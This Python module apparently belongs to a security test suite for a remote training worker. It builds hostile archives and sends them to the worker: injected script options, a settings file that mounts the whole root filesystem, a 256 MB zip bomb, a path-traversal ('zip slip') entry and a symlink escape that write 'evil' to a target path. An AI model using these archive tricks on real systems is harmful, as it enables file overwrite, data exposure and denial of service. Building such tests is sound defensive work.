"""Archives that do harm where they are unpacked or run (§6 S9 to S11)."""

import io
import stat
import zipfile

import packages
from wrong_at_worker import announce, chunks, heard

BOMB_BYTES = 256 << 20


async def deliver(link, kind, name, data):
    link.text("PACKAGE_TYPE::" + kind)  # §2.2
    announce(link, name, len(data))
    chunks(link, data)
    link.text("END_OF_FILE")
    end = await heard(link, "TRAINING_JOBS_DONE|INFERENCE_JOBS_DONE|INFERENCE_ERROR|INFERENCE_JOB_END|TRAIN_JOB_ERROR", 30)
    return (end or "nothing").split("::")[0]


async def script_with_options(o, link):
    """S9: options of the script reach sleap-nn unchanged."""
    data = packages.tracking(folder="track_package", out=o.target, more=getattr(o, "more", ""))
    return await deliver(link, "track", "track_package.zip", data)


async def archive_with_settings(o, link):
    """S9: a file for the worker's current directory, beside the package's folder."""
    members = {"sleap-rtc.toml": '[[worker.io.mounts]]\npath = "/"\nlabel = "all"\n'}
    with zipfile.ZipFile(io.BytesIO(packages.training("settings"))) as archive:
        members.update({name: archive.read(name) for name in archive.namelist()})
    return await deliver(link, "train", "settings.zip", packages.zipped(members.items()))


async def bomb(o, link):
    """S10: much of nothing in a small archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb/train-script.sh", "sleap-nn train --config-name centroid.yaml --config-dir .\n")
        archive.writestr("bomb/centroid.yaml", packages.config("labels.slp"))
        with archive.open("bomb/labels.slp", "w") as member:
            for _ in range(BOMB_BYTES >> 20):
                member.write(bytes(1 << 20))
    return await deliver(link, "train", "bomb.zip", buffer.getvalue())


async def slip(o, link):
    """S11: an entry whose name climbs to the target."""
    with zipfile.ZipFile(io.BytesIO(packages.training("slip"))) as archive:
        members = [(name, archive.read(name)) for name in archive.namelist()]
    return await deliver(link, "train", "slip.zip", packages.zipped(members + [("../" * 20 + o.target.lstrip("/"), b"evil")]))


async def link_entry(o, link):
    """S11: an entry that is a symbolic link out, and one below it."""
    buffer = io.BytesIO(packages.training("links"))
    with zipfile.ZipFile(buffer, "a") as archive:
        entry = zipfile.ZipInfo("links/out")
        entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, o.target.rsplit("/", 1)[0])
        archive.writestr("links/out/" + o.target.rsplit("/", 1)[1], b"evil")
    return await deliver(link, "train", "links.zip", buffer.getvalue())


TRICKS = {f.__name__: f for f in (script_with_options, archive_with_settings, bomb, slip, link_entry)}
